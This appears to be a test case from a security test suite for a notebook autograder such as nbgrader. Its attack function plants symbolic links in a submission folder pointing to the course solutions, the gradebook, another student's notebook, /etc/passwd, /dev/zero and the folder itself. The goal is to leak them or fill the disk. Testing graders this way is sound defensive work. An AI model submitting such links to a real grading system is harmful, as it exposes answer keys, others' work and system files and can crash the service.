"""Hands in symbolic links to the solutions, the gradebook, another student's notebook and the password file.

Would show them to the notebook, or have them copied into what is given back.

Plain nbgrader: fills the disk with a copy that has no end, and is not graded.
"""


def attack(folder, places):
    for name, target in (
        ("solutions", places["course"] / "solutions"),
        ("gradebook.db", places["course"] / "gradebook.db"),
        ("other.ipynb", places["course"] / "submitted"),
        ("passwd", "/etc/passwd"),
        ("endless", "/dev/zero"),
        ("loop", folder),
    ):
        (folder / name).symlink_to(target)
